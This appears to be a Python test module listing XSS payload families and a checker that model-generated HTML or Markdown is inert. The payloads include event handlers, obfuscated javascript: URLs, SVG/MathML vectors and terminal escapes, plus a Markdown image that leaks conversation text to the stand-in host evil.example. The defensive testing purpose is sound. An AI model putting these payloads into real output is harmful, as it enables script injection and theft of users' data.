"""Known XSS families as a model might write them, and a checker that HTML output is inert.

Each payload that could run script would call `window.__glm_pwned(n)` (the browser test sets
that marker); a remote fetch would go to `evil.example`, which the browser test intercepts."""

from __future__ import annotations

import re
from html.parser import HTMLParser

JS = "window.__glm_pwned&&window.__glm_pwned(1)"

PAYLOADS: list[str] = [
    # event handlers on many elements
    f"<img src=x onerror={JS}>",
    f"<img src=x onerror='{JS}'/>",
    f"<svg><svg onload={JS}>",
    f"<svg onload={JS}></svg>",
    f"<details open ontoggle={JS}>x</details>",
    f"<body onload={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}>",
    f"<marquee onstart={JS}>m</marquee>",
    f"<div onmouseover={JS} style='position:fixed;inset:0'>cover</div>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}>",
    f"<iMg SrC=x OnErRoR={JS}>",
    # script, obfuscated script
    f"<script>{JS}</script>",
    f"<scr<script>ipt>{JS}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    # javascript:/data:/vbscript: URLs, entity-, case- and whitespace-obfuscated
    f'<a href="javascript:{JS}">click</a>',
    f'<a href="JaVaScRiPt:{JS}">click</a>',
    f'<a href="jav&#x09;ascript:{JS}">click</a>',
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:{JS}">click</a>',
    f'<a href=" javascript:{JS}">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    # frames, objects, forms, meta, base, style
    f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    f'<form action="javascript:{JS}"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/)}</style>",
    "<div style=\"background:url('https://evil.example/bg')\">styled</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    # SVG animate/set and MathML vectors
    f'<svg><animate onbegin={JS} attributeName=x dur=1s>',
    f'<svg><set attributeName=onmouseover to={JS}>',
    f'<svg><a xlink:href="javascript:{JS}"><text x=20 y=20>svg link</text></a></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror={JS}>',
    f'<math href="javascript:{JS}">math link</math>',
    # Markdown link / image / autolink / reference forms
    f"[click me](javascript:{JS})",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<javascript:{JS}>",
    "![tracking pixel](https://evil.example/leak?q=the+whole+conversation)",
    f'![x" onerror="{JS}](https://evil.example/a.png)',
    f"[ref][1]\n\n[1]: javascript:{JS}",
    "![ref image][img]\n\n[img]: https://evil.example/ref.png",
    # comments, CDATA, unclosed tags, math that would make links
    f"<!--><img src=x onerror={JS}>-->",
    f"<![CDATA[><img src=x onerror={JS}>]]>",
    f"<img src=x onerror={JS}",
    f"<a href='javascript:{JS}'",
    r"$\href{javascript:window.__glm_pwned(1)}{click}$",
    r"$$\class{x}{\cssId{y}{\style{background:url(https://evil.example/m)}{z}}}$$",
    # terminal escapes carried in text
    "title \x1b]0;pwned\x07 clear \x1b[2J \x9b31m bell \x07 rtl \u202eevil\u202c zero\u200bwidth",
]

# the same payloads split mid-tag, as a stream delivers them
STREAM_SPLIT = ["<im", "g src=x one", f"rror={JS}>", " <scr", f"ipt>{JS}</sc", "ript>"]

ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt",
    "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "kbd", "li", "ol", "p", "pre", "q",
    "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td",
    "tfoot", "th", "thead", "tr", "u", "ul",
}
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b]")


class _Inert(HTMLParser):
    def __init__(self, allow_images: bool, own_styles: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.allow_images = allow_images
        self.own_styles = own_styles
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = ALLOWED_TAGS | ({"img"} if self.allow_images else set())
        if tag not in allowed:
            self.problems.append(f"element <{tag}>")
        names = {k for k, _ in attrs}
        for k, v in attrs:
            v = (v or "").strip().lower()
            if k.startswith("on"):
                self.problems.append(f"handler {k} on <{tag}>")
            if k in ("href", "src", "action", "formaction", "xlink:href", "srcdoc", "data") \
                    and not v.startswith(("http://", "https://", "mailto:")):
                self.problems.append(f"{k}={v[:40]!r} on <{tag}>")
            if k == "style" and not (self.own_styles and "class" in names):
                self.problems.append(f"style on <{tag}>")
        if tag == "img" and any(k == "src" and "evil.example" in (v or "") for k, v in attrs) \
                and not self.allow_images:
            self.problems.append("remote image")


def inert_problems(html: str, *, allow_images: bool = False, own_styles: bool = False
                   ) -> list[str]:
    """What in `html` could run, navigate or fetch (empty when it is inert)."""
    p = _Inert(allow_images, own_styles)
    p.feed(html)
    p.close()
    if re.search(r"\\(href|class|cssId|style)\b", html) and "mathjax_ignore" not in html:
        p.problems.append("TeX command that makes links or styles, left for the typesetter")
    return p.problems
